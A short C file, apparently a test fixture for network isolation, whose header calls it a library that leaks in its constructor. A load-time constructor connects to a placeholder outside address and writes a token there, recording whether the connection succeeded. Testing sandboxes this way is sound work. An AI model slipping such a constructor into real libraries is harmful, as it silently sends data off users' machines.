/* A library that leaks in its constructor, before whoever opened it could object. */
#include "common.h"

int leak_result = 2;

__attribute__((constructor)) static void leak(void)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr.s_addr = inet_addr(FOREIGN4)};
    leak_result = connect(fd, (struct sockaddr *)&to, sizeof to) != 0 || write(fd, TOKEN, sizeof TOKEN - 1) < 0;
    close(fd);
}
